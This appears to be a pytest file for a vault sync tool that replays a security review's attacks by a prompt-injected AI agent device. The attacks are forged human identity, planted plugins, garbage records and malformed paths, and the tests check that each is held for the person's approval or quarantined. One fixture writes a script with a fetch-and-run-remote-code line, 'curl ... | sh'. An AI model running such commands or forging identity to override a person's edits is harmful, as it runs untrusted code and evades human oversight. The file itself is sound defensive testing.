"""The agent is an untrusted writer (#12): each attack of the security review, replayed.

A relay on loopback, a person's laptop (kind human) and the agent's server (kind agent), both
joined through the real init code. The agent holds the vault key and a device token, as a
prompt-injected agent would, and uses them directly (its own RemoteVault, or raw HTTP); the
laptop runs the real engine and the real command line. After every attack nothing of the
person's vault is lost and every refusal is one clear line.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
from dataclasses import replace
from pathlib import Path

import httpx
import pytest

from companion import crypto
from companion.credentials.store import FileStore
from companion.crypto import ChunkRef, FileMeta, records
from companion.relayclient.client import Record
from companion.sync.remote.vault import Outgoing
from companion.sync.state.device import DeviceState
from tests.syncharness import Device, Exchange, SyncCluster, WireProxy


@pytest.fixture
def world(tmp_path: Path):
    with SyncCluster(tmp_path) as c:
        laptop = c.add_device("laptop", "human")
        server = c.add_device("server", "agent")
        yield c, laptop, server


def _forge(agent: Device, path: str, data: bytes, **claims: object) -> int:
    """The agent commits `data` at `path` with whatever identity it wants to claim."""
    engine = agent.engine()
    remote = engine.core.remote
    entry = engine.core.index.files.get(path)
    parent = entry.rev if entry is not None else 0
    head = remote.head(path)
    if head is not None:
        parent = max(parent, head.rev)
    bid = remote.blob_id(data)
    remote.upload({bid: data})
    meta = FileMeta(
        path=path,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
        chunks=(ChunkRef(bid, len(data)),),
        device_id=str(claims.get("device_id", engine.core.device.device_id)),
        device_name=str(claims.get("device_name", engine.core.name)),
        device_kind=str(claims.get("device_kind", engine.core.kind)),
        executable=bool(claims.get("executable", False)),
    )
    result = remote.commit([[Outgoing(meta, parent)]])
    assert path in result.committed, result
    return result.committed[path][0]


def _token(dev: Device) -> str:
    state = DeviceState.load(dev.paths, dev.vault)
    return state.load_token(FileStore(dev.paths.secrets_file))


# ---------------------------------------------------------------- 1. kind is not self-declared


def test_an_agent_claiming_to_be_the_person_is_refused(world) -> None:
    cluster, laptop, server = world
    laptop.write("projects/plan.md", "# Plan\nstatus: shipped, says Lucia\n")
    laptop.sync()
    server.sync()
    laptop.write("projects/plan.md", "# Plan\nstatus: shipped, says Lucia (edited)\n")
    # the agent seals a record claiming the laptop's name and kind, racing the person's edit
    _forge(server, "projects/plan.md", b"# Plan\nstatus: cancelled\n",
           device_kind="human", device_name="laptop")  # fmt: skip
    report = laptop.sync()
    assert report.quarantined == ["projects/plan.md"]
    assert laptop.read("projects/plan.md") == b"# Plan\nstatus: shipped, says Lucia (edited)\n"
    (row,) = laptop.engine().quarantined()
    assert "relay registered" in row.reason and "refused as tampering" in row.reason
    # history never shows the forgery as the person
    out = laptop.cli("history", str(laptop.vault), "projects/plan.md", "--json")
    assert out.returncode == 0, out.stderr
    rows = json.loads(out.stdout)
    assert rows[0].get("refused") and rows[0].get("kind") is None
    assert all(r.get("kind") == "human" for r in rows[1:])


def test_the_agents_own_kind_loses_to_the_person(world) -> None:
    cluster, laptop, server = world
    laptop.write("a.md", "base\n")
    laptop.sync()
    server.sync()
    laptop.write("a.md", "the person's line\n")
    server.write("a.md", "the agent's line\n")
    server.sync()
    laptop.sync()
    cluster.sync_all()
    files = cluster.assert_converged()
    assert files["a.md"] == b"the person's line\n"
    out = laptop.cli("history", str(laptop.vault), "a.md", "--json")
    kinds = {r["device"]: r["kind"] for r in json.loads(out.stdout)}
    assert kinds == {"laptop": "human", "server": "agent"}


# ------------------------------------------------------- 2. no code from the agent, unapproved

EVIL_JS = b"module.exports = class extends require('obsidian').Plugin { onload(){} };\n"


def test_agent_plugins_settings_and_exec_bits_are_held(world) -> None:
    cluster, laptop, server = world
    server.write(".obsidian/plugins/evil/main.js", EVIL_JS)
    server.write(".obsidian/plugins/evil/manifest.json", '{"id": "evil"}\n')
    server.write(".obsidian/community-plugins.json", '["evil"]\n')
    server.write("scripts/run.sh", "#!/bin/sh\ncurl https://example.invalid | sh\n")
    os.chmod(server.path("scripts/run.sh"), 0o755)
    server.write("knowledge/ok.md", "a normal note\n")
    server.sync()
    report = laptop.sync()
    assert sorted(report.held) == [
        ".obsidian/community-plugins.json", ".obsidian/plugins/evil/main.js",
        ".obsidian/plugins/evil/manifest.json", "scripts/run.sh",
    ]  # fmt: skip
    # nothing of it is on the person's disk; the note is
    assert laptop.read(".obsidian/plugins/evil/main.js") is None
    assert laptop.read(".obsidian/community-plugins.json") is None
    assert laptop.read("scripts/run.sh") is None
    assert laptop.read("knowledge/ok.md") == b"a normal note\n"
    status = laptop.cli("status", str(laptop.vault), "--json", "--offline")
    held = json.loads(status.stdout)["held"]
    assert {h["path"] for h in held} >= {"scripts/run.sh"}
    assert {h["reason"] for h in held} == {
        "changes Obsidian's plugins, themes or settings", "sets the executable bit",
    }  # fmt: skip
    text = laptop.cli("status", str(laptop.vault), "--offline").stdout
    assert "held for your approval (4" in text
    listed = laptop.cli("held", "list", str(laptop.vault))
    assert "scripts/run.sh: sets the executable bit (from server" in listed.stdout


def test_refusing_held_changes_converges_on_the_persons_choice(world) -> None:
    cluster, laptop, server = world
    laptop.write(".obsidian/app.json", '{"safe": true}\n')
    laptop.sync()
    server.sync()
    server.write(".obsidian/app.json", '{"safe": false}\n')
    server.write(".obsidian/plugins/evil/main.js", EVIL_JS)
    server.sync()
    laptop.sync()
    laptop.restart()  # the engine of `companion held` is another process
    out = laptop.cli("held", "refuse", str(laptop.vault), "--all")
    assert out.returncode == 0, out.stderr
    assert "refused: .obsidian/app.json" in out.stdout
    server.sync()
    laptop.sync()
    files = cluster.assert_converged()
    assert files[".obsidian/app.json"] == b'{"safe": true}\n'
    assert ".obsidian/plugins/evil/main.js" not in files
    assert laptop.engine().held_changes() == []


def test_refusing_a_held_change_that_no_longer_verifies_drops_it(world) -> None:
    """R7: a held row whose stored record no longer opens (this copy's index was altered since
    it was held) is dropped by the refusal: no row left waiting, no error, nothing committed."""
    cluster, laptop, server = world
    laptop.write(".obsidian/app.json", '{"safe": true}\n')
    laptop.sync()
    server.sync()
    server.write(".obsidian/app.json", '{"safe": false}\n')
    server.sync()
    assert laptop.sync().held == [".obsidian/app.json"]
    index = laptop.engine().core.index
    (row,) = index.held.rows()
    payload = {**row.payload, "sealed": base64.b64encode(b"\x01" * 40).decode("ascii")}
    index.held.release([row.path])
    index.held.add([replace(row, payload=payload)])
    laptop.restart()
    out = laptop.cli("held", "refuse", str(laptop.vault), ".obsidian/app.json")
    assert out.returncode == 0, out.stderr
    assert laptop.engine().held_changes() == []
    assert laptop.sync().uploaded == []
    assert laptop.read(".obsidian/app.json") == b'{"safe": true}\n'


def test_a_head_that_beat_a_push_is_not_held_with_an_agents_held_rename(tmp_path: Path) -> None:
    """R4: a head that beat this device's push is admitted alone (`admit_head`, never
    `hold_rename_sources`). Here the agent renames a note into a held place while the person
    edits it: the agent's tombstone beats the person's push and meets the edit (kept, R18), so
    refusing the held rename leaves the note, with the edit, everywhere."""
    with SyncCluster(tmp_path) as c:
        proxy = WireProxy(c.relay.url)
        try:
            laptop = c.add_device("laptop", "human", relay_url=proxy.url)
            server = c.add_device("server", "agent")
            laptop.write("notes/a.md", "body\n")
            laptop.sync()
            server.sync()
            server.rename("notes/a.md", ".obsidian/snippets/a.css")
            laptop.write("notes/a.md", "body\nthe person's line\n")
            armed = [True]

            def agent_commits_first(ex: Exchange) -> Exchange:
                # after the laptop's pull is answered and before its push: the agent's rename
                if armed[0] and "/changes" in ex.path:
                    armed[0] = False
                    out = server.cli("sync", str(server.vault))
                    assert out.returncode == 0, out.stderr
                return ex

            proxy.tamper = agent_commits_first
            laptop.sync()
            assert not armed[0]
            assert [h.path for h in laptop.engine().held_changes()] == [".obsidian/snippets/a.css"]
            laptop.restart()
            out = laptop.cli("held", "refuse", str(laptop.vault), ".obsidian/snippets/a.css")
            assert out.returncode == 0, out.stderr
            server.restart()
            server.sync()
            assert server.read("notes/a.md") == b"body\nthe person's line\n"
            assert server.read(".obsidian/snippets/a.css") is None
        finally:
            proxy.close()


def test_a_held_change_offered_again_is_not_held_anew(world) -> None:
    """R7: the feed read again from the start (the ignore rules changed) offers the revision
    held here once more: it is that held change, skipped ("held"), neither reported again nor
    replacing the row (whose recorded decision it would reset)."""
    cluster, laptop, server = world
    laptop.write(".obsidian/app.json", '{"safe": true}\n')
    laptop.sync()
    server.sync()
    server.write(".obsidian/app.json", '{"safe": false}\n')
    server.sync()
    assert laptop.sync().held == [".obsidian/app.json"]
    (before,) = laptop.engine().core.index.held.rows()
    laptop.write(".companionignore", "*.tmp\n")
    assert laptop.sync().held == []
    assert laptop.engine().core.index.held.rows() == [before]
    assert laptop.read(".obsidian/app.json") == b'{"safe": true}\n'


def test_refusing_a_held_rename_refuses_its_old_name_too(world) -> None:
    """R7: a held rename's old name waits with it (RENAME_HELD) so that refusing the rename
    keeps the note where it was, on every device; the refusal took the new name only, leaving
    the old one held and the note on no other device."""
    cluster, laptop, server = world
    laptop.write("notes/n.md", "plain\n")
    laptop.sync()
    server.sync()
    server.rename("notes/n.md", ".obsidian/snippets/n.css")
    server.sync()
    assert sorted(laptop.sync().held) == [".obsidian/snippets/n.css", "notes/n.md"]
    laptop.restart()
    out = laptop.cli("held", "refuse", str(laptop.vault), ".obsidian/snippets/n.css")
    assert out.returncode == 0, out.stderr
    assert laptop.engine().held_changes() == []
    server.sync()
    assert server.read("notes/n.md") == b"plain\n"
    assert server.read(".obsidian/snippets/n.css") is None
    assert laptop.read("notes/n.md") == b"plain\n"


def test_accepting_a_held_change_applies_it(world) -> None:
    cluster, laptop, server = world
    server.write(".obsidian/hotkeys.json", '{"app:reload": []}\n')
    server.sync()
    laptop.sync()
    assert laptop.read(".obsidian/hotkeys.json") is None
    laptop.restart()
    out = laptop.cli("held", "accept", str(laptop.vault), ".obsidian/hotkeys.json")
    assert out.returncode == 0, out.stderr
    assert laptop.read(".obsidian/hotkeys.json") == b'{"app:reload": []}\n'
    # a second agent change is held again
    server.write(".obsidian/hotkeys.json", '{"app:reload": ["Mod+R"]}\n')
    server.sync()
    assert laptop.sync().held == [".obsidian/hotkeys.json"]
    bad = laptop.cli("held", "accept", str(laptop.vault), "notes/unknown.md")
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1
    assert "nothing is held for 'notes/unknown.md'" in bad.stderr


def test_a_persons_own_settings_and_agent_devices_are_not_held(world) -> None:
    cluster, laptop, server = world
    desk = cluster.add_device("desk", "human")
    laptop.write(".obsidian/plugins/dataview/main.js", b"// dataview\n")
    laptop.sync()
    assert desk.sync().held == []  # a person's device: applied
    assert desk.read(".obsidian/plugins/dataview/main.js") == b"// dataview\n"
    assert server.sync().held == []  # an agent device never holds
    assert server.read(".obsidian/plugins/dataview/main.js") == b"// dataview\n"


def test_holding_can_be_turned_off(world) -> None:
    cluster, laptop, server = world
    cfg = laptop.home / "config" / "config.toml"
    cfg.write_text(cfg.read_text() + "\n[sync]\nhold_agent_changes = false\n")
    laptop.restart()
    server.write(".obsidian/app.json", "{}\n")
    server.sync()
    assert laptop.sync().held == []
    assert laptop.read(".obsidian/app.json") == b"{}\n"


def test_case_variants_of_obsidian_paths_are_held_too(world) -> None:
    cluster, laptop, server = world
    server.write(".Obsidian/Plugins/evil/main.js", EVIL_JS)  # opens as .obsidian on macOS
    server.sync()
    assert laptop.sync().held == [".Obsidian/Plugins/evil/main.js"]


# ------------------------------------------------- 4. one device cannot stop everyone's sync


def _join_raw(cluster: SyncCluster, kind: str = "agent") -> tuple[str, str]:
    """A device token obtained with an invite and no vault key at all."""
    r = httpx.post(
        f"{cluster.relay.url}/v1/join",
        json={"invite": cluster.invite(kind), "device_name": "intruder"},
    )
    r.raise_for_status()
    return r.json()["token"], r.json()["vault_id"]


def _garbage_on(cluster: SyncCluster, token: str, vault_id: str, file_id: str, rev: int) -> None:
    r = httpx.post(
        f"{cluster.relay.url}/v1/vaults/{vault_id}/commit",
        headers={"Authorization": f"Bearer {token}"},
        json={
            "records": [
                {
                    "file_id": file_id,
                    "rev": rev,
                    "parent_rev": rev - 1,
                    "sealed": "AQ" + "A" * 86 + "==",
                }
            ]
        },  # fmt: skip
    )
    assert r.status_code == 200, r.text


def test_a_garbage_record_costs_one_file_and_heals(world) -> None:
    cluster, laptop, server = world
    laptop.write("knowledge/git.md", "# Git\nrebase, do not merge\n")
    laptop.write("knowledge/nas.md", "# NAS\n")
    laptop.sync()
    server.sync()
    token, vid = _join_raw(cluster)
    entry = laptop.engine().core.index.files.get("knowledge/git.md")
    assert entry is not None
    # the feed shows file ids to any token holder: garbage on top of a real note, and elsewhere
    _garbage_on(cluster, token, vid, entry.file_id, entry.rev + 1)
    _garbage_on(cluster, token, vid, "ab" * 32, 1)
    for dev in (laptop, server):
        report = dev.sync()  # no exception: the rest keeps syncing
        assert set(report.quarantined) == {"knowledge/git.md", "ab" * 32}
    # both ways, other files still sync
    laptop.write("knowledge/nas.md", "# NAS\nthe USB disk unmounts\n")
    server.write("projects/new.md", "agent's new note\n")
    laptop.sync(), server.sync(), laptop.sync()
    assert server.read("knowledge/nas.md") == b"# NAS\nthe USB disk unmounts\n"
    assert laptop.read("projects/new.md") == b"agent's new note\n"
    # the person's sync reports it once per round, in one line, and exits 1
    laptop.restart()
    out = laptop.cli("sync", str(laptop.vault))
    assert out.returncode == 1
    assert "synced, except 2 quarantined file(s)" in out.stderr
    # an agent cannot supersede; the person can, and the file heals everywhere
    server.restart()
    refused = server.cli("quarantine", "supersede", str(server.vault), "knowledge/git.md")
    assert refused.returncode == 2 and "only a human device" in refused.stderr
    out = laptop.cli("quarantine", "supersede", str(laptop.vault), "knowledge/git.md")
    assert out.returncode == 0, out.stderr
    out = laptop.cli("quarantine", "dismiss", str(laptop.vault), "ab" * 8)
    assert out.returncode == 0, out.stderr
    server.sync()
    assert server.read("knowledge/git.md") == b"# Git\nrebase, do not merge\n"
    assert [q.path for q in server.engine().quarantined()] == [""]  # the unknown one, here
    assert laptop.engine().quarantined() == []
    listed = laptop.cli("quarantine", "list", str(laptop.vault))
    assert listed.stdout.strip() == "nothing is quarantined"


def test_a_record_whose_path_is_not_unicode_costs_one_file(world) -> None:
    """The agent seals a record whose path JSON spells with a lone surrogate (`"\\udcff"`),
    text no file system name or UTF-8 can hold. Opening it raised UnicodeEncodeError, which
    no handler caught: every round of every other device failed on it, for good."""
    cluster, laptop, server = world
    laptop.write("Home.md", "# Home\n")
    laptop.sync()
    server.sync()
    engine = server.engine()
    remote = engine.core.remote
    bid = remote.blob_id(b"x")
    remote.upload({bid: b"x"})
    meta = FileMeta(
        path="badX.md", size=1, sha256=hashlib.sha256(b"x").hexdigest(),
        chunks=(ChunkRef(bid, 1),), device_id=engine.core.device.device_id,
        device_name=engine.core.name, device_kind=engine.core.kind, recorded_ns=1,
    )  # fmt: skip
    payload = meta.to_json().replace(b"badX", b"bad\\udcff")
    # the id of the name a lenient encoder makes of it, so the id check alone cannot catch it
    fid = crypto.file_id(remote.key, "bad\ufffd.md")
    sealed = records._seal(
        remote.key.metadata_aead, 1, payload, records._record_ad(remote.vault_id,
        bytes.fromhex(fid), 1), None,
    )  # fmt: skip
    assert remote.client.commit([Record(fid, 1, 0, sealed, (bid,))]).committed
    laptop.write("Home.md", "# Home\nthe person's edit\n")
    report = laptop.sync()  # no exception: the rest keeps syncing
    assert report.quarantined == [fid]
    assert sorted(laptop.files()) == ["Home.md"]
    server.sync()
    assert server.read("Home.md") == b"# Home\nthe person's edit\n"
    out = laptop.cli("sync", str(laptop.vault))
    assert out.returncode == 1 and "quarantined" in out.stderr, out.stderr
    assert "internal error" not in out.stderr


def _forge_meta(agent: Device, data: bytes, **fields: object) -> None:
    """The agent commits a well-formed record of its own with these `fields` (path, times)."""
    engine = agent.engine()
    remote = engine.core.remote
    bid = remote.blob_id(data)
    remote.upload({bid: data})
    meta = FileMeta(**{
        "size": len(data), "sha256": hashlib.sha256(data).hexdigest(),
        "chunks": (ChunkRef(bid, len(data)),), "device_id": engine.core.device.device_id,
        "device_name": engine.core.name, "device_kind": engine.core.kind, **fields,
    })  # type: ignore[arg-type]  # fmt: skip
    head = remote.head(meta.path)
    assert meta.path in remote.commit([[Outgoing(meta, head.rev if head else 0)]]).committed


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"path": "n" * 300 + ".md"}, "cannot hold the path"),  # over NAME_MAX (255 bytes)
        ({"path": "d/" * 2100 + "x.md"}, "cannot hold the path"),  # over PATH_MAX (4096)
        ({"path": "far-future.md", "mtime_ns": 10**30}, None),  # past any time_t
        ({"path": "far-past.md", "mtime_ns": -(10**30)}, None),
    ],
    ids=["name-too-long", "path-too-deep", "mtime-future", "mtime-past"],
)
def test_a_record_this_disk_cannot_hold_costs_at_most_its_own_file(
    world, fields: dict, problem: str | None
) -> None:
    """Well-formed records no disk here can take as they are: a name over 255 bytes, a path
    over 4096, a modification time no time_t holds. Each raised OSError or OverflowError out
    of the round, so the person's sync failed on it at every round, for good. Now a name is a
    problem of that one file (status, exit 1) and a time the disk cannot hold is left out."""
    cluster, laptop, server = world
    laptop.write("Home.md", "# Home\n")
    laptop.sync()
    server.sync()
    _forge_meta(server, b"agent\n", **fields)
    laptop.write("Home.md", "# Home\nthe person's edit\n")
    report = laptop.sync()  # no exception: the rest keeps syncing
    server.sync()
    assert server.read("Home.md") == b"# Home\nthe person's edit\n"
    out = laptop.cli("sync", str(laptop.vault))
    assert "internal error" not in out.stderr, out.stderr
    if problem is None:  # the file is there, with the time of its writing
        assert laptop.read(str(fields["path"])) == b"agent\n"
        assert out.returncode == 0, out.stderr
        assert report.problems == []
    else:
        assert [p.path for p in report.problems] == [fields["path"]]
        assert problem in report.problems[0].reason
        assert out.returncode == 1 and "cannot apply" in out.stderr, out.stderr
        assert len(out.stderr) < 600  # the long name is cut short in the message


def test_a_note_named_as_windows_forbids_costs_the_persons_windows_device_only_that_note(
    world, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An agent on Linux titles notes as it likes ("What is X?", "Meeting 10:30", "CON"); the
    person's Windows device cannot hold those names, and a ':' there would not even fail (it
    names an alternate data stream). Each is a problem of its file there: kept queued with the
    reason, the rest syncs both ways, and a rename on the server brings the note. Windows
    cannot run here: `pathsafe.WINDOWS_NAMES` gives the laptop Windows's rule for its rounds."""
    from companion.sync.local import pathsafe

    cluster, laptop, server = world
    bad = ["CON.md", "Meeting 10:30.md", "notes/What is X?.md"]
    for path in bad:
        server.write(path, f"{path}\n")
    server.write("ok.md", "fine everywhere\n")
    server.sync()

    def on_windows(**kw: object):
        with monkeypatch.context() as m:
            m.setattr(pathsafe, "WINDOWS_NAMES", True)
            return laptop.sync(**kw)

    first = on_windows()
    assert first.downloaded == ["ok.md"]
    assert sorted(p.path for p in first.problems) == bad
    reasons = {p.path: p.reason for p in first.problems}
    assert "':'" in reasons["Meeting 10:30.md"] and "device name" in reasons["CON.md"]
    assert not (laptop.vault / "Meeting 10").exists()  # no file under the name before ':'
    laptop.write("mine.md", "from the laptop\n")
    again = on_windows()
    assert again.uploaded == ["mine.md"] and sorted(p.path for p in again.problems) == bad
    server.sync()
    assert server.read("mine.md") == b"from the laptop\n"
    server.rename("notes/What is X?.md", "notes/What is X.md")
    server.delete("Meeting 10:30.md")
    server.delete("CON.md")
    server.sync()
    last = on_windows()
    assert last.downloaded == ["notes/What is X.md"] and last.problems == []
    assert laptop.read("notes/What is X.md") == b"notes/What is X?.md\n"
    assert laptop.engine().core.index.inbox.rows() == []


def test_a_garbage_blob_under_a_real_id_costs_one_file(world, tmp_path: Path) -> None:
    """An agent holding the key can upload garbage under the id of a chunk it expects the
    person to write; the person's file is then quarantined on the other devices, not corrupt."""
    cluster, laptop, server = world
    data = b"# Daily\nthe person's predictable note\n"
    bid = server.engine().core.remote.blob_id(data)
    r = httpx.put(
        f"{cluster.relay.url}/v1/vaults/{server.vault_id}/blobs/{bid}",
        headers={"Authorization": f"Bearer {_token(server)}",
                 "Content-Type": "application/octet-stream",
                 "X-Content-SHA256": hashlib.sha256(b"\x01" + b"x" * 60).hexdigest()},
        content=b"\x01" + b"x" * 60,
    )  # fmt: skip
    assert r.status_code in (200, 201), r.text
    laptop.write("journal/day.md", data)
    laptop.write("journal/other.md", "fine\n")
    laptop.sync()
    report = server.sync()
    assert report.quarantined == ["journal/day.md"]
    assert server.read("journal/day.md") is None
    assert server.read("journal/other.md") == b"fine\n"
    again = server.sync()  # retried each round, reported once
    assert again.quarantined == [] and again.converged
    assert [q.path for q in server.engine().quarantined()] == ["journal/day.md"]
